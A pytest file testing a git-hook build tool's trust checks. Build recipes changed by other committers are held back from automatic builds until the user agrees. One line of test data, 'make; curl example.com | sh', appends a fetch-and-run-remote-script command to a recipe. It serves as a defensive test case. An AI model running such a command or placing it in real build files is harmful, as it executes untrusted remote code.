"""What hooks build unasked, and agreeing to the rest."""

from __future__ import annotations

from pathlib import Path

import pytest

from ckpt_git.builds.checks.trust import is_foreign, packages_to_build
from ckpt_git.builds.context import Context
from ckpt_git.model.target import Target
from ckpt_git.records.queue import Request
from tests.cli.project import CONFIG, Project
from tests.support import GitRepo

OTHERS = {
    "GIT_AUTHOR_NAME": "S Omebody",
    "GIT_AUTHOR_EMAIL": "somebody@example.com",
    "GIT_COMMITTER_NAME": "S Omebody",
    "GIT_COMMITTER_EMAIL": "somebody@example.com",
}
CHANGED = CONFIG.replace('build = "make"', 'build = "make; curl example.com | sh"')


def _admitted(project: Project, event: str = "post-merge") -> tuple[str, ...] | None:
    """What the builder would build of HEAD after ``event``."""
    context = Context.open(project.path)
    target = context.repo.target("HEAD")
    wanted = Target("commit", "HEAD", target.tree, target.commit)
    foreign = is_foreign(context, event)
    return packages_to_build(
        context, Request(str(project.path), (wanted,), event, foreign=foreign), target
    )


def _notices(project: Project) -> list[str]:
    return Context.open(project.path).state.take_notices()


def _pull(project: Project, tmp_path: Path, files: dict[str, str], name: str = "theirs") -> str:
    """Somebody else commits ``files`` to a clone, and it is pulled from there."""
    theirs = project.repo.clone(tmp_path / name)
    for path, content in files.items():
        theirs.write(path, content)
    theirs.git("add", "-A")
    theirs.git("commit", "-q", "-m", "theirs", env=OTHERS)
    project.repo.git("pull", "-q", "--ff-only", str(theirs.path))
    return theirs.head


def test_what_others_change_is_built_in_a_sandbox_by_the_same_recipe(
    project: Project, tmp_path: Path
) -> None:
    _pull(project, tmp_path, {"greeting.txt": "theirs\n"})
    assert _admitted(project) == ()
    assert _notices(project) == []


@pytest.mark.parametrize("named", [OTHERS, {}], ids=["by another name", "by the name of the user"])
def test_a_recipe_that_others_changed_is_asked_about_once(
    project: Project, tmp_path: Path, named: dict[str, str], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tests.cli.commands.set_up.test_trust.OTHERS", named)
    commit = _pull(project, tmp_path, {"ckpt.toml": CHANGED})
    assert _admitted(project) is None
    [notice] = _notices(project)
    assert "hello is not rebuilt: its recipe was changed by " + commit[:10] in notice
    assert "git ckpt trust" in notice
    assert _admitted(project) is None
    assert _notices(project) == []
    assert "curl" in project.ckpt("trust", "--show").out
    assert _admitted(project) is None
    assert "hooks build it" in project.ckpt("trust").out
    assert _admitted(project) == ()
    assert project.repo.git("status", "--porcelain") == ""


def test_other_packages_are_built(project: Project, tmp_path: Path) -> None:
    second = CONFIG.replace("hello", "second")
    _pull(project, tmp_path, {"ckpt.toml": CONFIG + second})
    # `hello` says what it said before; that the file is somebody else's now is no matter once
    # its user has had it built.
    project.repo.git("reset", "-q", "--hard", "HEAD~")
    project.ckpt("trust")
    project.repo.git("merge", "-q", "--ff-only", "ORIG_HEAD")
    assert _admitted(project) == ("hello",)


def test_what_the_user_commits_is_theirs(project: Project, tmp_path: Path) -> None:
    project.repo.commit("mine", {"ckpt.toml": CHANGED})
    assert _admitted(project, "post-commit") == ()
    _pull(project, tmp_path, {"ckpt.toml": CONFIG}, "theirs")
    assert _admitted(project) is None  # nobody had agreed to the first one
    _pull(project, tmp_path, {"ckpt.toml": CHANGED}, "again")
    assert _admitted(project) == ()


def test_a_commit_of_a_series_is_not_the_users_own(project: Project, tmp_path: Path) -> None:
    theirs = project.repo.clone(tmp_path / "theirs")
    theirs.write("ckpt.toml", CHANGED)
    theirs.git("commit", "-q", "-a", "-m", "theirs", env=OTHERS)
    project.repo.commit("mine", {"greeting.txt": "mine\n"})
    project.repo.git("fetch", "-q", str(theirs.path))
    project.repo.git("cherry-pick", "FETCH_HEAD")
    assert _admitted(project, "post-commit") is None


def test_installing_hooks_agrees_to_the_recipe_that_is_there(
    project: Project, tmp_path: Path
) -> None:
    clone = Project(project.repo.clone(tmp_path / "clone"))
    assert _admitted(clone) is None
    clone.ckpt("install")
    assert _admitted(clone) == ()


def test_an_edited_recipe_in_the_work_tree_is_the_users_own(
    project: Project, tmp_path: Path
) -> None:
    _pull(project, tmp_path, {"ckpt.toml": CHANGED})
    project.repo.write("ckpt.toml", CHANGED + '\ncheck = "true"\n')
    context = Context.open(project.path)
    target = context.repo.target("worktree")
    wanted = Target("worktree", "worktree", target.tree, target.commit)
    request = Request(str(project.path), (wanted,), "post-merge", foreign=True)
    assert packages_to_build(context, request, target) == ()


def test_without_a_sandbox_others_changes_wait_for_an_agreement(
    project: Project, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("CKPT_SANDBOX", "none")
    _pull(project, tmp_path, {"greeting.txt": "theirs\n"})
    assert _admitted(project) is None
    assert "there is no sandbox here" in _notices(project)[0]
    assert _admitted(project, "post-commit") is None  # the pull moved HEAD, no commit did
    assert "without a sandbox" in project.ckpt("trust").out
    assert _admitted(project) == ()
    project.repo.commit("mine", {"greeting.txt": "mine\n"})
    assert _admitted(project, "post-commit") == ()


def test_what_a_person_asks_for_is_built(project: Project, tmp_path: Path) -> None:
    _pull(project, tmp_path, {"ckpt.toml": CONFIG.replace('"make"', '"make -j1"')})
    assert project.build("HEAD")["outcome"] == "passed"
    assert _admitted(project) is None


def test_agreements_are_listed_and_taken_back(project: Project, tmp_path: Path) -> None:
    assert "nothing was agreed to" in project.ckpt("trust", "--list").out
    _pull(project, tmp_path, {"ckpt.toml": CHANGED})
    [agreed] = project.ckpt("trust", "--json").json()["packages"]
    assert (agreed["agreed"], agreed["says"]["install"]) == (True, "make install")
    [listed] = project.ckpt("trust", "--list", "--json").json()["agreements"]
    assert listed["digest"] == agreed["recipe"]
    assert project.ckpt("trust", "--revoke", "--package", "other").out == "forgot 0 agreements\n"
    assert project.ckpt("trust", "--revoke").out == "forgot 1 agreement\n"
    assert _admitted(project) is None
    assert not project.ckpt("trust", "--show", "--json").json()["packages"][0]["agreed"]


def test_nix_files_that_others_changed_are_a_changed_recipe(tmp_path: Path) -> None:
    repo = GitRepo.init(tmp_path / "nixed")
    config = '[package.hello]\nfile = "default.nix"\n'
    repo.commit("first", {"ckpt.toml": config, "default.nix": "{ }", "a.c": "1"})
    project = Project(repo)
    _pull(project, tmp_path, {"a.c": "2"}, "one")
    assert _admitted(project) == ()
    _pull(project, tmp_path, {"default.nix": "{ a = 1; }"}, "two")
    assert _admitted(project) is None
